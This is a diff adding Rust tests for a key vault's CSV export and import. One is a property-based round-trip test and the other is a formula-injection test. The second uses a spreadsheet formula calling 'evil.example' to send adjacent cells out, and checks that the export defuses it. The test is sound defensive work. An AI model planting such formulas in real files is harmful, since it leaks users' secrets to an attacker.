@@ -155,3 +155,82 @@ pub fn json(records: &[&KeyRecord], secrets: Option<&[SecretString]>) -> Zeroizi
     out.push_str("]\n");
     out
 }
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+    use secrecy::ExposeSecret;
+
+    use super::*;
+    use crate::providers::Provider;
+    use crate::vault::meta::{self, KeyMeta};
+    use crate::vault::model::KeyId;
+
+    /// One line of text as a person may type it: separators, quotes, formula starts, escapes.
+    const LINE: &str = "[a-zA-Z0-9 ;,=\\\\'\"@+\\-:/.#é日]{1,30}";
+
+    fn record(label: &str, notes: &str, tags: &[String], integration: (&str, Option<&str>)) -> KeyRecord {
+        let meta = KeyMeta {
+            label: label.to_owned(),
+            notes: notes.to_owned(),
+            integrations: vec![meta::integration(integration.0, integration.1.unwrap_or(""))],
+            ..KeyMeta::default()
+        };
+        let mut record = crate::vault::new_key_record(
+            KeyId::from_stored("0123456789ab"),
+            meta,
+            (Provider::Other, ""),
+            &SecretString::from("x"),
+            String::new(),
+            chrono::Utc::now(),
+        )
+        .unwrap();
+        record.tags = tags.to_vec();
+        record
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(256))]
+        #[test]
+        fn any_label_note_tag_integration_and_key_survive_export_and_import(
+            label in LINE,
+            notes in "[a-zA-Z0-9 ;,=\\\\'\"@+\\-\n\t日]{0,60}",
+            tags in proptest::collection::vec(LINE, 0..3),
+            name in LINE,
+            url in proptest::option::of("https://[a-zA-Z0-9;,=\\\\'\"@+\\-:/.#?&é]{1,30}"),
+            secret in "[=+\\-@'a-zA-Z0-9][a-zA-Z0-9 ;,=\\\\'\"@+\\-()&]{0,40}[a-zA-Z0-9=()'\"]",
+        ) {
+            let (label, name) = (label.trim(), name.trim());
+            prop_assume!(!label.is_empty() && !name.is_empty());
+            let mut kept: Vec<String> = Vec::new();
+            for tag in tags.iter().map(|t| t.trim()).filter(|t| !t.is_empty()) {
+                if !kept.iter().any(|k| k == tag) {
+                    kept.push(tag.to_owned());
+                }
+            }
+            let original = record(label, &notes, &kept, (name, url.as_deref()));
+            let written = csv(&[&original], Some(&[SecretString::from(secret.as_str())]));
+            let (_, parsed) = super::super::read(written.as_bytes(), None).unwrap();
+            prop_assert!(parsed.problems.is_empty(), "{:?}", parsed.problems);
+            let row = &parsed.rows[0];
+            prop_assert_eq!(row.secret.expose_secret(), secret.as_str());
+            prop_assert_eq!(&row.meta.label, &original.label);
+            let notes_back = if original.notes.trim().is_empty() { "" } else { original.notes.as_str() };
+            prop_assert_eq!(row.meta.notes.as_str(), notes_back);
+            prop_assert_eq!(&row.tags, &original.tags);
+            let back: Vec<_> = row.meta.integrations.iter().map(|i| (i.name.clone(), i.url.clone())).collect();
+            let want: Vec<_> = original.integrations.iter().map(|i| (i.name.clone(), i.url.clone())).collect();
+            prop_assert_eq!(back, want);
+        }
+    }
+
+    #[test]
+    fn a_formula_shaped_key_is_defused_and_read_back_whole() {
+        let original = record("Sheet", "", &[], ("n8n", None));
+        let formula = "=WEBSERVICE(\"https://evil.example/?\"&B2&B3)";
+        let written = csv(&[&original], Some(&[SecretString::from(formula)]));
+        assert!(written.contains("\"'=WEBSERVICE("), "{}", written.as_str());
+        let (_, parsed) = super::super::read(written.as_bytes(), None).unwrap();
+        assert_eq!(parsed.rows[0].secret.expose_secret(), formula);
+    }
+}
